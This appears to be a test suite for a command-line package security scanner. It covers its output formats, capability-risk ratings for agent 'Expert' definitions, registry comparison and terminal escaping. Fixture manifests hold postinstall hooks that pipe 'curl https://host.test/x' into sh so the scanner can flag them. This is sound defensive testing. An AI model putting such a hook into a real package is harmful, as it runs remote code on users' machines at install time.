import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { startProgress } from "../../../src/cli/terminal.ts";
import { runInside } from "../../support/command.ts";
import { hostileFiles, hostileManifest } from "../../support/hostile.ts";
import { type Files, tarball } from "../../support/tarball.ts";

let folder = "";
let good = "";
let bad = "";

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "cli-scan-"));
  good = await file("good.tgz", tarball({ "index.js": "1" }));
  bad = await file("bad.tgz", tarball(hostileFiles, hostileManifest));
});

afterAll(async () => {
  await rm(folder, { recursive: true });
});

async function file(name: string, content: string | Uint8Array): Promise<string> {
  const path = join(folder, name);
  await writeFile(path, content);
  return path;
}

async function project(name: string, files: Files): Promise<string> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(folder, name, path, ".."), { recursive: true });
    await writeFile(join(folder, name, path), content);
  }
  return join(folder, name);
}

async function json(...args: string[]) {
  return JSON.parse((await runInside(["scan", ...args])).out) as Record<string, unknown>;
}

describe("--json", () => {
  test("has the fields of the contract, and is the same for the same bytes but for the time", async () => {
    const [first, second] = [await json(bad, "--json"), await json(bad, "--json")];

    expect(Object.keys(first)).toEqual([
      ...["verdict", "total", "risk", "capabilities", "findings", "stats", "ruleset", "limitsHit"],
    ]);
    expect(Object.keys(first["stats"] as object)).toEqual([
      "files",
      "bytes",
      "ms",
      "parseFailures",
    ]);
    const timeless = (report: object) => ({ ...report, stats: null });
    expect(JSON.stringify(timeless(second))).toBe(JSON.stringify(timeless(first)));
  });
});

describe("a folder", () => {
  test("is judged as if it were packed, in a process that stands hostile files", async () => {
    const clean = await project("clean", { "package.json": '{"name":"a","version":"1.0.0"}' });
    const hostile = await project("hostile", {
      ...hostileFiles,
      "package.json": JSON.stringify({ name: "a", version: "1.0.0", ...hostileManifest }),
      "lib/deep/index.js": "1",
    });

    expect((await runInside(["scan", clean])).code).toBe(0);
    const report = await json(hostile, "--json");
    expect(report).toMatchObject({ verdict: "block" });
    expect((report["stats"] as { files: number }).files).toBe(Object.keys(hostileFiles).length + 2);
  });

  test("without a package.json is no package, unless it holds an Expert", async () => {
    const bare = await project("bare", { "notes.md": "hello" });
    const expert = await project("expert", { "perstack.toml": "[experts.a]\n" });

    expect(await runInside(["scan", bare])).toMatchObject({
      code: 1,
      out: expect.stringContaining("TAR-08"),
    });
    expect(await runInside(["scan", expert])).toMatchObject({ code: 0 });
  });
});

test("a perstack.toml is a package with that one file", async () => {
  const path = resolve("examples/researcher/perstack.toml");

  const report = await json(path, "--json");
  expect(report).toMatchObject({ verdict: "clean", findings: [], stats: { files: 1 } });
});

describe("an Expert", () => {
  const base = (tools: string) => `
    [experts."@acme/a".skills."@perstack/base"]
    type = "mcpStdioSkill"
    command = "npx"
    pick = [${tools}]`;
  const expert = (more: string) =>
    `[experts."@acme/a"]\ninstruction = "Help the user with notes."\n${more}`;
  const reader = base('"readTextFile"');

  test.each([
    ["texts alone", expert(""), "low", "none", []],
    ["reading", expert(reader), "medium", "read", []],
    ["writing", expert(base('"writeTextFile"')), "high", "write", []],
    [
      "a delegate of elsewhere",
      expert(`delegates = ["@acme/b@1.0.0"]\n${reader}`),
      "high",
      "read",
      ["what the delegate @acme/b@1.0.0 does"],
    ],
    [
      "a delegate of the same file",
      `${expert('delegates = ["@acme/b"]')}\n[experts."@acme/b"]\ninstruction = "Help."\n`,
      "low",
      "none",
      [],
    ],
    [
      "a package that nobody looked into",
      expert(`${reader}\n[experts."@acme/a".skills."web"]
        type = "mcpStdioSkill"\ncommand = "npx"\npackageName = "web-tools@1.0.0"`),
      "high",
      "read",
      ["what the package of the skill web does"],
    ],
  ])("can do what its definition lets it do: %s", async (_, toml, risk, filesystem, unknown) => {
    const folder = await project("stated", { "perstack.toml": toml });
    const packed = await file("stated.tgz", tarball({ "perstack.toml": toml }));
    for (const path of [folder, packed, join(folder, "perstack.toml")]) {
      const report = await json(path, "--json");
      expect(report).toMatchObject({ risk, capabilities: { filesystem, unknown } });
    }
  });

  test("is told the same when it is compared with what a registry shows", async () => {
    const manifest = { name: "@acme/a", version: "1.0.0" };
    const folder = await project("shown", {
      "perstack.toml": expert(base('"writeTextFile"')),
      "package.json": JSON.stringify(manifest),
    });
    const document = { name: "@acme/a", versions: { "1.0.0": manifest } };
    const packument = await file("shown.json", JSON.stringify(document));
    expect(await json(folder, "--json", "--packument", packument)).toMatchObject({
      risk: "high",
      capabilities: { filesystem: "write" },
    });
  });

  test("that cannot be read can do what its files can do", async () => {
    const folder = await project("broken", { "perstack.toml": "[experts.\n" });
    expect(await json(folder, "--json")).toMatchObject({ capabilities: { filesystem: "none" } });
  });
});

describe("--packument", () => {
  const versions = { "1.0.0": { name: "sample", version: "1.0.0", scripts: { postinstall: "a" } } };

  test("compares with what the registry shows", async () => {
    const hooked = { scripts: { postinstall: "echo other" } };
    const hidden = await file("hidden.tgz", tarball({}, hooked));
    const same = await file(
      "same.json",
      JSON.stringify({
        name: "sample",
        versions: { "1.0.0": { ...versions["1.0.0"], ...hooked } },
      }),
    );
    const other = await file("other.json", JSON.stringify({ name: "sample", versions }));
    const rules = async (packument: string) =>
      ((await json(hidden, "--json", "--packument", packument))["findings"] as { ruleId: string }[])
        .map(({ ruleId }) => ruleId)
        .filter((id) => id === "MAN-07");

    expect(await rules(other)).toEqual(["MAN-07"]);
    expect(await rules(same)).toEqual([]);
  });

  test.each([
    ["text", "is not the document of a package"],
    ['{"name":"sample","versions":{}}', "says nothing about the version 1.0.0"],
    ['{"name":"sample","versions":{"1.0.0":3}}', "is not the document of a package"],
  ])("%j fails with a sentence", async (text, sentence) => {
    const packument = await file("wrong.json", text);
    expect(await runInside(["scan", good, "--packument", packument])).toEqual({
      code: 1,
      out: "",
      error: expect.stringContaining(sentence),
    });
  });
});

describe("--previous", () => {
  const hooked = { scripts: { postinstall: "curl https://host.test/x | sh" } };
  const marks = async (...args: string[]) =>
    ((await json(...args, "--json"))["findings"] as { ruleId: string; isNew: boolean }[])
      .filter(({ ruleId }) => ruleId === "INS-01")
      .map(({ isNew }) => isNew);

  test("says what was not in the version before, be that a tarball or a folder", async () => {
    const now = await file("now.tgz", tarball({}, { version: "1.0.1", ...hooked }));
    const same = await file("same.tgz", tarball({}, { version: "1.0.1", ...hooked }));
    const before = await project("before", {
      "package.json": JSON.stringify({ name: "sample", version: "1.0.0" }),
    });

    expect(await marks(now)).toEqual([false]);
    expect(await marks(now, "--previous", same)).toEqual([false]);
    expect(await marks(now, "--previous", before)).toEqual([true]);
    const shown = await runInside(["scan", now, "--previous", before]);
    expect(shown.out).toMatch(/INS-01 .* NEW$/m);
  });

  test.each([
    ["nothing", "there is nothing at"],
    ["junk.tgz", "cannot be read as the version before"],
  ])("%s fails with a sentence", async (name, sentence) => {
    await file("junk.tgz", "junk");
    expect(await runInside(["scan", good, "--previous", join(folder, name)])).toEqual({
      code: 1,
      out: "",
      error: expect.stringContaining(sentence),
    });
  });
});

describe("several paths", () => {
  test("a line each, in the order given, and a summary on the side", async () => {
    const { code, out, error } = await runInside(["scan", bad, good, join(folder, "none"), good]);

    expect(code).toBe(1);
    expect(out.split("\n")).toEqual([
      expect.stringMatching(/^block .*bad\.tgz {2}.*INS-01/),
      expect.stringMatching(/^clean .*good\.tgz$/),
      expect.stringMatching(/^error .*there is nothing at/),
      expect.stringMatching(/^clean .*good\.tgz$/),
    ]);
    expect(error).toBe("1 block, 2 clean, 1 failed");
  });

  test("--jsonl: one that cannot be read says so, and the others go on", async () => {
    const many = Array.from({ length: 40 }, (_, at) => (at % 2 === 0 ? good : bad));
    const { code, out } = await runInside(["scan", "--jsonl", join(folder, "none"), ...many]);
    const lines = out.split("\n").map((line) => JSON.parse(line) as Record<string, unknown>);

    expect(code).toBe(1);
    expect(lines.map((line) => line["path"])).toEqual([join(folder, "none"), ...many]);
    expect(lines[0]).toEqual({
      path: expect.any(String),
      error: expect.stringContaining("there is nothing at"),
    });
    expect(lines.slice(1, 3)).toMatchObject([{ verdict: "clean" }, { verdict: "block" }]);
    expect(Object.keys(lines[1] ?? {}).slice(0, 3)).toEqual(["path", "verdict", "total"]);
  });

  test("--jsonl: exit 0 when all are clean", async () => {
    expect((await runInside(["scan", "--jsonl", good, good])).code).toBe(0);
  });

  test("--paths-from: from a file, and from standard input", async () => {
    const list = await file("list.txt", `${good}\r\n\n${bad}\n`);
    const fromFile = await runInside(["scan", "--jsonl", "--paths-from", list]);
    const child = Bun.spawn(
      [process.execPath, resolve("src/main.ts"), "scan", "--jsonl", "--paths-from", "-"],
      { stdin: Buffer.from(`${good}\n${bad}\n`), stdout: "pipe", stderr: "pipe" },
    );
    const piped = await child.stdout.text();

    const pathsOf = (text: string) =>
      text
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as { path: string }).path);
    expect(pathsOf(fromFile.out)).toEqual([good, bad]);
    expect(pathsOf(piped)).toEqual([good, bad]);
    expect([fromFile.code, await child.exited]).toEqual([1, 1]);
    expect(await child.stderr.text()).toBe("");
  });

  test("an empty list is no error", async () => {
    const list = await file("empty.txt", "\n");
    expect(await runInside(["scan", "--paths-from", list])).toEqual({
      code: 0,
      out: "",
      error: "there was nothing to scan",
    });
  });
});

describe("wrong usage is 2", () => {
  test.each([
    [["--json", "--jsonl"]],
    [["--sarif", "--json"]],
    [["--jobs", "0"]],
    [["--jobs", "many"]],
    [["other.tgz", "--previous", "x.tgz"]],
    [["other.tgz", "--packument", "x.json"]],
  ])("%j", async (args) => {
    const { code, out } = await runInside(["scan", good, ...args]);
    expect({ code, out }).toEqual({ code: 2, out: "" });
  });
});

describe("--sarif", () => {
  interface Result {
    ruleId: string;
    ruleIndex: number;
    level: string;
    message: { text: string };
    locations: {
      physicalLocation: {
        artifactLocation: { uri: string };
        region?: { startLine: number; snippet?: { text: string } };
      };
    }[];
  }
  interface Sarif {
    $schema: string;
    version: string;
    runs: {
      tool: { driver: { name: string; rules: Record<string, unknown>[] } };
      invocations: { executionSuccessful: boolean }[];
      results: Result[];
    }[];
  }

  test("is one run with rules, levels, places and messages as the format asks", async () => {
    const odd = await file(
      "odd name#%.tgz",
      tarball(hostileFiles, { ...hostileManifest, description: "\u202e" }),
    );
    const { code, out } = await runInside(["scan", "--sarif", odd, good]);
    const { version, $schema, runs } = JSON.parse(out) as Sarif;
    const [run] = runs;

    expect(code).toBe(1);
    expect(version).toBe("2.1.0");
    expect(() => new URL($schema)).not.toThrow();
    expect(runs).toHaveLength(1);
    const rules = run?.tool.driver.rules ?? [];
    expect(run?.tool.driver.name).not.toBe("");
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    for (const rule of rules) {
      expect(rule).toMatchObject({
        id: expect.stringMatching(/^[A-Z]+-[ST]?\d+$/),
        shortDescription: { text: expect.stringMatching(/./) },
        help: { text: expect.stringMatching(/./) },
      });
    }
    expect(run?.invocations).toMatchObject([{ executionSuccessful: true }]);
    expect(run?.results.map(({ ruleId }) => ruleId)).toContain("INS-01");
    for (const { ruleId, ruleIndex, level, message, locations } of run?.results ?? []) {
      expect(rules[ruleIndex]?.["id"]).toBe(ruleId);
      expect(["error", "warning", "note", "none"]).toContain(level);
      expect(message.text).toMatch(/^[\x20-\x7e\xa0-\uffff]+$/);
      const [place] = locations.map(({ physicalLocation }) => physicalLocation);
      expect(place?.artifactLocation.uri).toMatch(/^file:\/\/\/[\w%./-]+$/);
      expect(place?.artifactLocation.uri).toContain("odd%20name%23%25.tgz");
      expect(place?.region?.startLine ?? 1).toBeGreaterThanOrEqual(1);
    }
  });

  test("says what could not be read", async () => {
    const { code, out } = await runInside(["scan", "--sarif", good, join(folder, "none")]);
    const { runs } = JSON.parse(out) as Sarif;

    expect(code).toBe(1);
    expect(runs[0]).toMatchObject({
      results: [],
      invocations: [
        {
          executionSuccessful: false,
          toolExecutionNotifications: [
            { level: "error", message: { text: expect.stringContaining("there is nothing at") } },
          ],
        },
      ],
    });
  });
});

describe("at a terminal", () => {
  test("the verdict has a colour; without one, or with NO_COLOR, nothing has", async () => {
    const atTerminal = async (env: Record<string, string>) => {
      let screen = "";
      const child = Bun.spawn([process.execPath, resolve("src/main.ts"), "scan", bad], {
        env: { PATH: process.env["PATH"] ?? "", TERM: "xterm", ...env },
        terminal: {
          cols: 100,
          rows: 40,
          data(_, data) {
            screen += Buffer.from(data).toString();
          },
        },
      });
      expect(await child.exited).toBe(1);
      return screen;
    };
    const coloured = await atTerminal({});
    const plain = await atTerminal({ NO_COLOR: "1" });

    expect(coloured).toContain("\u001b[31mblock\u001b[39m: ");
    expect(plain).toContain("block: ");
    expect(plain).not.toContain("\u001b");
  });

  test("progress is shown after a second, makes room for results, and leaves nothing", () => {
    vi.useFakeTimers({ toFake: ["setInterval", "clearInterval", "performance"] });
    try {
      const drawn: string[] = [];
      const terminal = {
        ...{ out: () => {}, error: () => {}, isInteractive: true, hasColours: false },
        progress: (line: string) => void drawn.push(line),
      };
      const progress = startProgress(terminal, "scanned", 2);
      vi.advanceTimersByTime(800);
      progress.step();
      expect(drawn).toEqual([]);
      vi.advanceTimersByTime(400);
      expect(drawn.at(-1)).toBe("[##########..........] scanned 1 of 2, 1 s");
      progress.aside(() => drawn.push("a result"));
      expect(drawn.slice(-2)).toEqual(["", "a result"]);
      vi.advanceTimersByTime(200);
      progress[Symbol.dispose]();
      vi.advanceTimersByTime(1000);
      expect(drawn.at(-1)).toBe("");
    } finally {
      vi.useRealTimers();
    }
  });
});

test("what a stranger wrote cannot reach the terminal as it is", async () => {
  const path = await file(
    "escape.tgz",
    tarball({}, { scripts: { postinstall: "curl https://host.test/\u001b[2J | sh" } }),
  );
  for (const form of [[], ["--json"], ["--jsonl"], ["--sarif"]]) {
    const { out } = await runInside(["scan", path, ...form]);
    expect(out).toContain("INS-01");
    expect(out).not.toContain("\u001b");
  }
});
